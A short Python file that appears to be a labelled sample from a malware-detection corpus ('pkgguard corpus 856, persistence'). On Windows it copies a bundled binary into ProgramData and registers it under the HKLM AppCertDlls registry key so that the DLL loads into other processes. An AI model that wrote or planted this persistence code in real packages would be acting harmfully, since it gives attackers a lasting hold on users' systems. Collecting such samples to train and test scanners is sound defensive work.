# pkgguard corpus 856 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    dll = os.path.join(os.environ.get("ProgramData", r"C:\ProgramData"), "Runtime", "certhelp.dll")
    os.makedirs(os.path.dirname(dll), exist_ok=True)
    shutil.copyfile(os.path.join(os.path.dirname(__file__), "_bin", "helper.pyd"), dll)
    try:
        with winreg.CreateKeyEx(
            winreg.HKEY_LOCAL_MACHINE,
            r"SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls",
            0,
            winreg.KEY_SET_VALUE,
        ) as key:
            winreg.SetValueEx(key, "CertHelp", 0, winreg.REG_EXPAND_SZ, dll)
    except OSError:
        pass
